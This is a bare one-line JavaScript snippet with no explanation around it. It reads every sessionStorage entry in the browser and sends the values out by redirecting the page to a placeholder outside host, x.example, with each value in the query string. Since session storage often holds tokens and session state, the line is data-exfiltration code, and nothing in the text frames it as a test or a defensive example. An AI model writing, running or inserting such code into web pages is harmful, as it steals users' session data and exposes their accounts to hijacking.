for (const k of Object.keys(sessionStorage)) history.pushState({}, '', '?' + k), (location.href = 'https://x.example/?' + sessionStorage[k]);
